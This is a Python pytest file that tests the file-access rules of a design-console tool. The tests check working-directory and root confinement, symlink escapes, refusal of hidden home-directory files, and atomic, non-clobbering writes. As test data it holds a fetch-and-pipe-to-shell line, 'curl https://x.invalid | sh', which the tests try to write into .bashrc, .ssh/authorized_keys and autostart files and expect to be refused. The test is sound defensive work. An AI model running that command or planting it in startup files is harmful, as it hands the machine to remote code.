"""The rules for files on the user's machine: working directory, MCP roots, symlinks, atomic and careful writes."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from design_console.errors import DesignError
from design_console.runtime.user_files import FileScope, read_bytes, resolve, session_scope, write_bytes


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "my project"
    (root / "src").mkdir(parents=True)
    (root / "logo.png").write_bytes(b"\x89PNG fake")
    return root


def test_relative_paths_resolve_against_the_apps_working_directory(project: Path) -> None:
    scope = FileScope(cwd=project)
    assert resolve("logo.png", scope) == project / "logo.png"
    assert resolve("src/../logo.png", scope) == project / "logo.png"
    assert read_bytes("logo.png", scope, max_bytes=100) == b"\x89PNG fake"


def test_a_relative_path_without_a_working_directory_is_refused(project: Path) -> None:
    with pytest.raises(DesignError) as err:
        resolve("logo.png", FileScope())
    assert "absolute path" in str(err.value)
    assert resolve(str(project / "logo.png"), FileScope()) == project / "logo.png"


def test_paths_outside_the_roots_are_refused_naming_the_roots(project: Path, tmp_path: Path) -> None:
    outside = tmp_path / "secret.txt"
    outside.write_text("x")
    scope = FileScope.from_wire(str(project), [project.as_uri()])
    assert resolve("src", scope) == project / "src"
    for raw in (str(outside), "../secret.txt"):
        with pytest.raises(DesignError) as err:
            resolve(raw, scope)
        assert err.value.code == "path_not_allowed"
        assert str(project) in str(err.value)


def test_a_symlink_out_of_the_roots_is_refused_for_reads_and_writes(project: Path, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "passwd").write_text("root:x")
    (project / "link").symlink_to(outside)
    (project / "file-link").symlink_to(outside / "passwd")
    scope = FileScope(cwd=project, roots=(project,))
    with pytest.raises(DesignError, match="link that leads there"):
        read_bytes("file-link", scope, max_bytes=100)
    with pytest.raises(DesignError) as err:
        write_bytes("link/tokens.json", b"{}", scope)
    assert err.value.code == "path_not_allowed"
    assert not (outside / "tokens.json").exists()
    assert (outside / "passwd").read_text() == "root:x"


def test_an_empty_list_of_roots_allows_nothing(project: Path) -> None:
    with pytest.raises(DesignError, match="none"):
        resolve("logo.png", FileScope(cwd=project, roots=()))


def test_without_roots_a_session_may_use_its_working_directory_and_the_configured_folders(
    project: Path, tmp_path: Path
) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    (tmp_path / "elsewhere.txt").write_text("x")
    (project / "out").symlink_to(tmp_path)
    scope = session_scope(str(project), None)
    assert write_bytes("doc.md", b"# Doc\n", scope).action == "created"
    for raw in ("../elsewhere.txt", str(tmp_path / "elsewhere.txt"), "out/elsewhere.txt", "/etc/hostname"):
        with pytest.raises(DesignError) as err:
            read_bytes(raw, scope, max_bytes=100)
        assert err.value.code == "path_not_allowed", raw
        assert "DESIGN_FILE_ROOTS" in err.value.hint
    widened = session_scope(str(project), None, (shared,))
    assert write_bytes(str(shared / "tokens.json"), b"{}", widened).action == "created"
    assert session_scope("", None).roots == (), "no working directory and no setting: nothing is allowed"
    assert session_scope(str(project), [shared.as_uri()]).roots == (shared,), "the client's roots decide"


def test_hidden_files_and_folders_of_the_home_directory_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".local" / "src" / "app").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    scope = session_scope(str(home), None)
    for raw in (".bashrc", ".profile", ".ssh/authorized_keys", str(home / ".config" / "autostart" / "x.desktop")):
        with pytest.raises(DesignError, match="hidden files and folders of the home") as err:
            write_bytes(raw, b"curl https://x.invalid | sh\n", scope)
        assert err.value.code == "path_not_allowed"
    assert not (home / ".bashrc").exists() and not (home / ".ssh" / "authorized_keys").exists()
    assert write_bytes("notes/doc.md", b"ok\n", scope).action == "created"
    inside = session_scope(str(home / ".local" / "src" / "app"), None)
    assert write_bytes("doc.md", b"ok\n", inside).action == "created", "a project kept in a hidden folder is fine"


def test_reads_refuse_large_files_folders_and_missing_ones(project: Path) -> None:
    scope = FileScope(cwd=project)
    with pytest.raises(DesignError, match="the limit is 4"):
        read_bytes("logo.png", scope, max_bytes=4)
    with pytest.raises(DesignError, match="not a regular file"):
        read_bytes("src", scope, max_bytes=100)
    with pytest.raises(DesignError) as err:
        read_bytes("nope.png", scope, max_bytes=100)
    assert err.value.code == "not_found"


def test_writes_create_then_refuse_to_overwrite_different_content(project: Path) -> None:
    scope = FileScope(cwd=project, roots=(project,))
    first = write_bytes("tokens/colors.css", b":root {\n  --a: #fff;\n}\n", scope)
    assert first.action == "created"
    target = project / "tokens" / "colors.css"
    assert target.read_bytes() == b":root {\n  --a: #fff;\n}\n"
    assert write_bytes("tokens/colors.css", target.read_bytes(), scope).action == "unchanged"

    new = b":root {\n  --a: #000;\n}\n"
    with pytest.raises(DesignError) as err:
        write_bytes("tokens/colors.css", new, scope)
    assert err.value.code == "file_exists"
    assert "-  --a: #fff;" in str(err.value) and "+  --a: #000;" in str(err.value)
    assert 'strategy "replace"' in str(err.value)
    assert target.read_bytes() != new

    preview = write_bytes("tokens/colors.css", new, scope, strategy="dry-run")
    assert preview.action == "would-replace" and "+  --a: #000;" in preview.diff
    assert target.read_bytes() != new

    done = write_bytes("tokens/colors.css", new, scope, strategy="replace")
    assert done.action == "replaced" and target.read_bytes() == new


def test_a_dry_run_of_a_new_file_writes_nothing(project: Path) -> None:
    report = write_bytes("out/new.json", b"{}", FileScope(cwd=project), strategy="dry-run")
    assert report.action == "would-create"
    assert not (project / "out").exists()


def test_writes_are_atomic_and_keep_the_files_mode(project: Path) -> None:
    target = project / "doc.md"
    target.write_text("old")
    target.chmod(0o640)
    write_bytes("doc.md", b"new", FileScope(cwd=project), strategy="replace")
    assert target.read_text() == "new"
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert [p.name for p in project.iterdir() if p.name.startswith(".doc.md.")] == []


def test_a_failed_write_leaves_no_temp_file_and_the_old_content(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = project / "doc.md"
    target.write_text("old")

    def fail(src: object, dst: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", fail)
    with pytest.raises(OSError, match="disk full"):
        write_bytes("doc.md", b"new", FileScope(cwd=project), strategy="replace")
    assert target.read_text() == "old"
    assert [p.name for p in project.iterdir() if p.name.startswith(".doc.md.")] == []
